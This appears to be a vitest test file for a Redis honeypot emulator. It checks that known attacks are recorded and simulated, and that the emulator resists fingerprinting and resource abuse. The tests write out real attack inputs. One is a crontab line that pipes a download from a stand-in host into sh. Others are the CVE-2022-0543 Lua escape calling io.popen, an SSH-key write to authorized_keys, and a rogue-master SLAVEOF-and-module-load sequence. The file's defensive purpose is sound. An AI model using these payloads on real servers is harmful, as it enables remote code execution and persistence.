import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import redis from '../../../src/emulators/redis/index.ts'
import { FakeHosts } from '../../fake-hosts.ts'
import { type Playing, play } from '../../harness.ts'
import { Conversation } from './conversation.ts'

let playing: Playing
let hosts: FakeHosts
let attacker: Conversation

beforeEach(async () => {
  hosts = new FakeHosts()
  playing = await play(redis, { persona: 'plain', prompts: 'test/fixtures/prompts', hosts })
  attacker = await Conversation.with(playing.port())
})
afterEach(async () => {
  attacker.end()
  await playing.stop()
})

const CRON = '\n\n*/2 * * * * root curl -fsSL http://192.0.2.1/x.sh | sh\n\n'

describe('an attack by the cron folder', () => {
  it('keeps the crontab, its URL, and where it was to go', async () => {
    await attacker.ask('SET', 'backup1', CRON)
    expect(await attacker.ask('CONFIG', 'SET', 'dir', '/var/spool/cron/')).toBe('+OK\r\n')
    expect(await attacker.ask('CONFIG', 'SET', 'dbfilename', 'root')).toBe('+OK\r\n')
    expect(await attacker.ask('SAVE')).toBe('+OK\r\n')
    expect(playing.data('redis.payload')).toMatchObject([
      { key: 'backup1', command: 'set', kinds: ['crontab', 'downloader'], size: CRON.length },
    ])
    expect(playing.data('indicator')).toContainEqual({ kind: 'url', value: 'http://192.0.2.1/x.sh', how: 'redis.set' })
    expect(playing.data('redis.file-write-intent')).toMatchObject([{ path: '/var/spool/cron/root', by: 'SAVE', written: true }])
    expect([...playing.artifacts.kept.values()].map(String)).toEqual([CRON])
  })

  it('leaves the dump on the simulated host, where its cron would find the line', async () => {
    await attacker.ask('SET', 'backup1', CRON)
    await attacker.ask('CONFIG', 'SET', 'dir', '/var/spool/cron')
    await attacker.ask('CONFIG', 'SET', 'dbfilename', 'root')
    await attacker.ask('SAVE')
    const dump = hosts.host?.written.get('/var/spool/cron/root')?.toString('latin1') ?? ''
    expect(dump).toMatch(/^REDIS0009/)
    expect(dump).toContain(CRON)
  })
})

describe('an attack by SSH key', () => {
  it('is tagged as what it is', async () => {
    await attacker.ask('SET', 'k', '\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC x@y\n\n')
    await attacker.ask('CONFIG', 'SET', 'dir', '/root/.ssh')
    await attacker.ask('CONFIG', 'SET', 'dbfilename', 'authorized_keys')
    await attacker.ask('BGSAVE')
    const intent = await playing.seen('redis.file-write-intent')
    expect(intent.tags).toEqual(['attack:T1098.004'])
    expect((await playing.seen('redis.payload')).tags).toEqual(['attack:T1098.004'])
  })
})

describe('an attack by rogue master', () => {
  it('dials nobody, and lets the module that should have come run commands on the simulated host', async () => {
    await attacker.ask('CONFIG', 'SET', 'dir', '/tmp')
    await attacker.ask('CONFIG', 'SET', 'dbfilename', 'exp.so')
    expect(await attacker.ask('SLAVEOF', '203.0.113.7', '8888')).toBe('+OK\r\n')
    expect(await attacker.ask('INFO', 'replication')).toContain('master_host:203.0.113.7\r\nmaster_port:8888\r\nmaster_link_status:down')
    expect(await attacker.ask('MODULE', 'LOAD', './exp.so')).toBe('+OK\r\n')
    expect(await attacker.ask('system.exec', 'id; uname -a')).toBe('$25\r\nran id; uname -a as root\n\r\n')
    expect(hosts.host?.ran).toEqual([{ command: 'id; uname -a', user: 'root' }])
    expect(playing.data('redis.replicate-from')).toEqual([{ host: '203.0.113.7', port: 8888 }])
    expect(playing.data('redis.module-load')).toEqual([{ path: './exp.so', loaded: true }])
    expect(playing.data('indicator')).toContainEqual({ kind: 'address', value: '203.0.113.7', how: 'redis.SLAVEOF' })
  })

  it('finds no module that nobody brought', async () => {
    expect(await attacker.ask('MODULE', 'LOAD', '/tmp/nope.so')).toBe('-ERR Error loading the extension. Please check the server logs.\r\n')
    expect(await attacker.ask('system.exec', 'id')).toMatch(/^-ERR unknown command `system.exec`/)
  })
})

describe('CVE-2022-0543', () => {
  it('runs the command of the script on the simulated host', async () => {
    const script =
      'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); local res = f:read("*a"); f:close(); return res'
    expect(await attacker.ask('EVAL', script, '0')).toBe('$15\r\nran id as root\n\r\n')
    expect((await playing.seen('redis.module-command')).tags).toContain('cve:CVE-2022-0543')
  })
})

describe('theft of the dataset', () => {
  it('by replication is recorded with its size', async () => {
    const keys = Number((await attacker.ask('DBSIZE')).slice(1))
    expect(keys).toBeGreaterThan(10)
    expect(await attacker.ask('SYNC')).toMatch(/^\$\d+\r\nREDIS0009/)
    expect(playing.data('redis.dump-theft')).toMatchObject([{ by: 'SYNC', keys }])
  })
})

describe('a brute force', () => {
  it('tries passwords until the planted one', async () => {
    await playing.stop()
    playing = await play(redis, {
      persona: 'plain',
      prompts: 'test/fixtures/prompts',
      hosts,
      options: { profile: 'auth', password: 'redis123' },
    })
    const client = await Conversation.with(playing.port())
    expect(await client.ask('INFO')).toBe('-NOAUTH Authentication required.\r\n')
    expect(await client.ask('AUTH', 'redis')).toBe('-WRONGPASS invalid username-password pair\r\n')
    expect(await client.ask('AUTH', 'redis123')).toBe('+OK\r\n')
    expect(await client.ask('PING')).toBe('+PONG\r\n')
    expect(playing.data('login')).toEqual([
      { method: 'password', username: 'default', password: 'redis', accepted: false },
      { method: 'password', username: 'default', password: 'redis123', accepted: true },
    ])
    client.end()
  })
})

describe('fingerprints of honeypots', () => {
  it('QUIT without a line end gets no byte', async () => {
    attacker.sendRaw('QUIT')
    expect(await attacker.quiet(150)).toBe('')
    attacker.sendRaw('\r\n')
    expect(await attacker.replies()).toBe('+OK\r\n')
    await attacker.untilClosed()
    expect(attacker.closed).toBe(true)
  })

  it('a missing key is nil, a number a number, an empty list empty', async () => {
    expect(await attacker.ask('GET', 'none')).toBe('$-1\r\n')
    expect(await attacker.ask('EXISTS', 'none')).toBe(':0\r\n')
    expect(await attacker.ask('KEYS', 'none*')).toBe('*0\r\n')
  })

  it('two installs differ in what identifies a server', async () => {
    const { Identity } = await import('../../../src/config/identity.ts')
    const other = await play(redis, {
      persona: 'plain',
      prompts: 'test/fixtures/prompts',
      hosts,
      identity: new Identity(Buffer.alloc(32, 9)),
    })
    const ids = async (port: number): Promise<string[]> => {
      const client = await Conversation.with(port)
      const info = await client.ask('INFO')
      client.end()
      return ['run_id', 'process_id', 'master_replid', 'uptime_in_days'].map((name) => new RegExp(`${name}:(\\S+)`).exec(info)?.[1] ?? '')
    }
    const [ours, theirs] = [await ids(playing.port()), await ids(other.port())]
    await other.stop()
    for (const [i, value] of ours.entries()) expect(value).not.toBe(theirs[i])
  })
})

describe('sources', () => {
  it('do not see what another has done, and find again what they did themselves', async () => {
    await attacker.ask('FLUSHALL')
    await attacker.ask('SET', 'mine', '1')
    const again = await Conversation.with(playing.port())
    expect(await again.ask('KEYS', '*')).toBe('*1\r\n$4\r\nmine\r\n')
    again.end()
    const { createConnection } = await import('node:net')
    const stranger = createConnection({ port: playing.port(), host: '127.0.0.1', localAddress: '127.0.0.2' })
    const answer = await new Promise<string>((resolve) => {
      stranger.once('data', (bytes) => resolve(bytes.toString()))
      stranger.write('EXISTS mine app:version\r\n')
    })
    stranger.destroy()
    expect(answer).toBe(':1\r\n')
  })

  it('fill no more than their share of memory', async () => {
    const value = 'x'.repeat(500_000)
    const replies = []
    for (let i = 0; i < 20; i++) replies.push(await attacker.ask('SET', `k${i}`, value))
    expect(replies[0]).toBe('+OK\r\n')
    expect(replies.at(-1)).toBe("-OOM command not allowed when used memory > 'maxmemory'.\r\n")
    expect(await attacker.ask('FLUSHALL')).toBe('+OK\r\n')
    expect(await attacker.ask('SET', 'k', value)).toBe('+OK\r\n')
  })

  it('get no reply that would take all of ours', async () => {
    await attacker.ask('SET', 'k', 'x'.repeat(500_000))
    attacker.send('MGET', ...new Array<string>(5000).fill('k'))
    await attacker.untilClosed()
    expect(attacker.closed).toBe(true)
    expect(playing.data('limit')).toContainEqual({ limit: 'reply', allowed: 32 * 1024 * 1024 })
  })

  it('queue no transaction that would', async () => {
    await attacker.ask('MULTI')
    const value = 'x'.repeat(900_000)
    const replies = []
    for (let i = 0; i < 6; i++) replies.push(await attacker.ask('SET', 'k', value))
    expect(replies[0]).toBe('+QUEUED\r\n')
    expect(replies.at(-1)).toMatch(/^-OOM /)
    expect(await attacker.ask('EXEC')).toMatch(/^-EXECABORT /)
  })

  it('leave the others their turn, however long their pipeline', async () => {
    await attacker.ask('RPUSH', 'l', ...Array.from({ length: 20_000 }, (_, i) => `${i % 977}`))
    for (let i = 0; i < 40; i++) attacker.send('SORT', 'l', 'LIMIT', '0', '1')
    const other = await Conversation.with(playing.port())
    const startedAt = performance.now()
    expect(await other.ask('PING')).toBe('+PONG\r\n')
    expect(performance.now() - startedAt).toBeLessThan(500)
    other.end()
  })
})
